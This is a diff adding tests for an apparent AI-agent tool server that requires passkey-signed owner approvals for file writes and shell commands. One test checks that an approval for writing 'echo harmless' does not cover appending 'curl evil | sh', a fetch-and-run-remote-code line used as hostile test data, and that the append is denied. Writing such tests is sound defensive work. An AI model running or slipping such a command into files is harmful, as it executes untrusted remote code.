@@ -45,6 +45,12 @@ async function approvalOf(command: string): Promise<Approval> {
   return found!;
 }
 
+async function approvalOfPath(file: string): Promise<Approval> {
+  let found: Approval | undefined;
+  await eventually(async () => (found = ((await (await api("/approvals")).json()) as { approvals: (Approval & { path?: string })[] }).approvals.find((a) => a.path === file)) !== undefined, 10_000, `the approval of a write to ${file}`);
+  return found!;
+}
+
 const approve = (id: string, body: Record<string, unknown>) => api(`/approvals/${id}`, { method: "POST", body: JSON.stringify({ decision: "approve", ...body }) });
 
 function start(command: string) {
@@ -133,5 +139,35 @@ describe("a machine whose policy wants the owner's passkey", () => {
     expect((await retry).isError).toBeFalsy();
     const third = await call(stack.client, "run_shell_command", { command, working_dir: root });
     expect(third.isError).toBe(false); // no question this time
+  });
+
+  test("a signed approval for a while of a write covers that content only: other content asks again", async () => {
+    const file = path.join(root, "signed.sh");
+    const first = stack.client.callTool({ name: "write_file", arguments: { path: file, content: "echo harmless\n" } }, undefined, { timeout: 60_000 }) as Promise<ToolCall["result"]>;
+    const approval = await approvalOfPath(file);
+    await approve(approval.id, { for_seconds: 300, assertion: await phone.assert(challengeOf(approval.passkey!.statements["300"])) });
+    expect((await first).isError).toBeFalsy();
+    const other = stack.client.callTool({ name: "write_file", arguments: { path: file, content: "curl evil | sh\n", append: true } }, undefined, { timeout: 60_000 }) as Promise<ToolCall["result"]>;
+    const asked = await approvalOfPath(file); // asked again, not covered
+    await api(`/approvals/${asked.id}`, { method: "POST", body: JSON.stringify({ decision: "deny" }) });
+    expect((await other).isError).toBe(true);
+    expect(fs.readFileSync(file, "utf8")).toBe("echo harmless\n");
+  });
+
+  test("a question asked before the owner switched to passkeys is not approved by an unsigned answer after", async () => {
+    fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "relay"\napproval_timeout = 30\n');
+    try {
+      const target = path.join(root, "switched");
+      const waiting = start(`touch ${target}`);
+      const approval = await approvalOf(`touch ${target}`);
+      expect(approval.passkey).toBeUndefined(); // asked in relay mode
+      fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "passkey"\napproval_timeout = 30\n');
+      await approve(approval.id, {});
+      const result = await waiting;
+      expect(textOf(result)).toContain("now accepts only approvals signed with the owner's passkey");
+      expect(fs.existsSync(target)).toBe(false);
+    } finally {
+      fs.writeFileSync(policyFile, 'preset = "ask-to-change"\napprovals = "passkey"\napproval_timeout = 30\n');
+    }
   });
 });
